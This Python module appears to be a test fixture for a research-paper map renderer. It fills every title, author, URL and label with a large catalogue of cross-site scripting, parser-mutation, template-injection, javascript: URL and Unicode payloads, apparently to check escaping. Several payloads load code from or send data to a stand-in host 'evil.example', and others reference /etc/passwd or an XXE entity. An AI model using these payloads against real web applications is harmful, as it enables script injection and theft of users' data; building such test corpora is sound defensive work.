"""Texts that try to become more than text, wherever an atlas holds text.

`PWN` stands for a script that would be noticed. The kinds follow OWASP's cheat sheet on evading
filters for cross-site scripting, and what is known of mutations by parsers (Heiderich and others
2013, "mXSS attacks").
"""

from __future__ import annotations

import dataclasses

from pipeline.papers import Paper, Source
from pipeline.render import MapView, ThemeLabel

from .made_views import make_view

SCRIPT = "(window.pwned=1,alert(1))"

ELEMENTS = [
    "<script>PWN</script>",
    "</script><script>PWN</script>",
    "</SCRIPT ><ScRiPt>PWN</sCrIpT>",
    "</script\t\n><script>PWN</script>",
    "</script/x><script>PWN</script>",
    "<script/x>PWN</script>",
    "<script\n>PWN</script>",
    "<<script>PWN;//<</script>",
    "<scr<script>ipt>PWN</scr</script>ipt>",
    "<script>PWN//",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script type=application/json id=atlas-map>{}</script>",
    "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
    "<iframe src=javascript:parent.PWN>",
    "<iframe src=https://evil.example/>",
    "<object data=javascript:PWN>",
    "<object data=https://evil.example/x.svg type=image/svg+xml>",
    "<embed src=javascript:PWN>",
    "<applet code=https://evil.example/x.class>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:PWN'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<form action=javascript:PWN><button>x</button></form>",
    "<form action=https://evil.example/ id=search-form><input name=q>",
    "<isindex type=image src=1 onerror=PWN>",
    "<template><script>PWN</script></template>",
    "<frameset onload=PWN>",
    "<marquee onstart=PWN>x</marquee>",
    "<dialog open onclose=PWN><form method=dialog><button>x",
    "<custom-element onclick=PWN tabindex=1 id=x></custom-element>",
]

HANDLERS = [
    "<img src=x onerror=PWN>",
    "<img src=x:x onerror=PWN//",
    "<IMG SRC=x OnErRoR=PWN>",
    "<img/src=x/onerror=PWN>",
    "<img src=`x`onerror=PWN>",
    '<img """><script>PWN</script>">',
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<image src=x onerror=PWN>",
    "<body onload=PWN>",
    "<body onpageshow=PWN onhashchange=PWN>",
    "<input autofocus onfocus=PWN>",
    "<select autofocus onfocus=PWN>",
    "<details open ontoggle=PWN>x</details>",
    "<video><source onerror=PWN></video>",
    "<video src=https://evil.example/v.mp4 autoplay poster=https://evil.example/p.png>",
    "<audio src=x onerror=PWN autoplay>",
    "<div onpointerover=PWN onmouseover=PWN style=position:fixed;inset:0>",
    "<div onanimationstart=PWN style=animation:x>",
    "<p style=\"background:url('javascript:PWN')\">",
    "<xss onfocus=PWN id=a tabindex=1>",
    "<a href=# onclick=PWN onfocus=PWN autofocus>x</a>",
    '" autofocus onfocus=PWN x="',
    "' onmouseover=PWN x='",
    '" style="position:fixed;inset:0" onpointermove="PWN',
    "x` onerror=`PWN",
]

FOREIGN_MARKUP = [
    "<svg onload=PWN>",
    "<svg/onload=PWN>",
    "<svg><script>PWN</script></svg>",
    "<svg><script href=data:,PWN /></svg>",
    "<svg><animate onbegin=PWN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:PWN><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=PWN />#x'>",
    "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
    "<svg><style><img src=x onerror=PWN></style></svg>",
    "<math><mi//xlink:href='data:x,<script>PWN</script>'>",
    "<math><a xlink:href=javascript:PWN>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN>",
    "<math><annotation-xml encoding=text/html><script>PWN</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>",
    "<svg></p><style><a id='</style><img src=x onerror=PWN>'>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.example/'>]><x>&y;</x>",
    "<?xml-stylesheet href='javascript:PWN'?>",
]

WAYS_OUT = [
    "<!--<script>PWN//",
    "<!--<img src='--><img src=x onerror=PWN//'>",
    "--><script>PWN</script>",
    "--!><script>PWN</script>",
    "]]><script>PWN</script>",
    "<![CDATA[<script>PWN</script>]]>",
    '"><script>PWN</script>',
    "'><script>PWN</script>",
    "</title><script>PWN</script>",
    "</style><script>PWN</script>",
    "</textarea><script>PWN</script>",
    "</noscript><img src=x onerror=PWN>",
    "</template></canvas></main></body></html><script>PWN</script>",
    "<plaintext>",
    "<xmp><script>PWN</script></xmp>",
    "<title>gone</title>",
    "<style>*{display:none!important}</style>",
    "}</style><style>@import 'https://evil.example/x.css';",
    "* { background: url(https://evil.example/x) } /*",
    "<div style='position:fixed;inset:0;z-index:99'>",
]

LINKS = [
    "javascript:PWN",
    "JaVaScRiPt:PWN",
    "java\tscript:PWN",
    "java\nscript:PWN",
    "\x01javascript:PWN",
    " \u00a0javascript:PWN",
    "javascript\u200b:PWN",
    "javascript&colon;PWN",
    "&#106;avascript:PWN",
    "java&NewLine;script:PWN",
    "javascript://https://papers.example/%0aPWN",
    "javascript:/*https://*/PWN",
    "vbscript:PWN",
    "data:text/html,<script>PWN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/x",
    "view-source:javascript:PWN",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:javascript:PWN",
    'https://evil.example/" onclick="PWN',
    "https://evil.example/'><script>PWN</script>",
    "https://papers.example\u202e/gpj.evil",
    "http://[::1]:99999999/PWN",
    "https://user:PWN@evil.example/",
]

TEMPLATES = [
    "${PWN}",
    "#{PWN}",
    "{{constructor.constructor('PWN')()}}",
    "{{title}}{{data}}{{script}}",
    "{% raw %}{{ PWN }}{% endraw %}",
    "<%= PWN %>",
    "`;PWN;`",
    "';PWN;//",
    '";PWN;//',
    "\\';PWN;//",
    "\\u003cscript\\u003ePWN\\u003c/script\\u003e",
    "\\x3cscript\\x3ePWN\\x3c/script\\x3e",
    "&lt;script&gt;PWN&lt;/script&gt;",
    "&#60;img src=x onerror=PWN&#62;",
    "&#x3c;img src=x onerror=PWN&#x3e;",
    "&lt;img src=x onerror=PWN&gt;",
    "%3Cscript%3EPWN%3C/script%3E",
    "+ADw-script+AD4-PWN+ADw-/script+AD4-",
    "\uff1cscript\uff1ePWN\uff1c/script\uff1e",
    "$& $1 $` $' \\1 \\g<0>",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    '{"__proto__": {"pwned": 1}}',
]

CHARACTERS = [
    "\u2028PWN\u2029",
    "\u2028</script><script>PWN</script>",
    "\x00<script>PWN</script>",
    "<scr\x00ipt>PWN</scr\x00ipt>",
    "\ud800<script>PWN</script>",
    "\udfff\ud800",
    "\ufeff<script>PWN</script>",
    "\ufffe\uffff",
    "\u202e<tpircs>PWN</tpircs>\u202d",
    "\u2066\u202eevil\u2069\u2068",
    "\u05e9\u05dc\u05d5\u05dd <b>PWN</b> \u0645\u0631\u062d\u0628\u0627",
    "z\u0335\u0321" + "\u0344\u0361\u0489" * 60 + "algo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40,
    "\x1b[31mPWN\x1b[0m\x07\x08\x7f",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>PWN</script>",
    "W" * 3000,
    "https://evil.example/" + "a" * 2000,
    "\u200b" * 500,
    "\t\n\v\f\r\x85\xa0",
    "\u0130\u0131\u1e9e\ufb03 İI",
]

PAYLOADS = [
    *ELEMENTS,
    *HANDLERS,
    *FOREIGN_MARKUP,
    *WAYS_OUT,
    *LINKS,
    *TEMPLATES,
    *CHARACTERS,
]
ATTACKS = [payload.replace("PWN", SCRIPT) for payload in PAYLOADS]


def attack(number: int) -> str:
    return ATTACKS[number % len(ATTACKS)]


def hostile_view(first: int = 0) -> MapView:
    """A map all of whose texts attack, each attack in every place that holds text; its title,
    snapshot and largest themes begin with attack `first`."""
    view = make_view(2 * len(ATTACKS))
    papers = tuple(_hostile_paper(i) for i in range(len(view.papers)))
    layers = tuple(
        tuple(ThemeLabel(t.id, attack(first + t.id), t.size, t.parent) for t in layer)
        for layer in view.layers
    )
    return dataclasses.replace(
        view, papers=papers, layers=layers, title=attack(first), snapshot=attack(first + 1)
    )


def _hostile_paper(i: int) -> Paper:
    return Paper(
        id=f"{attack(i)} {i}",
        title=attack(i) if i % 2 else "",
        abstract=f"{attack(i)} {attack(i + 1)}",
        authors=(attack(i + 3), attack(i + 4)),
        venue=attack(i + 5),
        category=attack(i + 6),
        url=attack(i + 7),
        doi=attack(i + 8),
        year=2000 + i % 20,
        sources=(Source(attack(i + 9), i),),
        # One column as full of values as can be, and one with few of them.
        extra=((attack(2), attack(i + 10)), (attack(3), attack(i % 7))),
    )
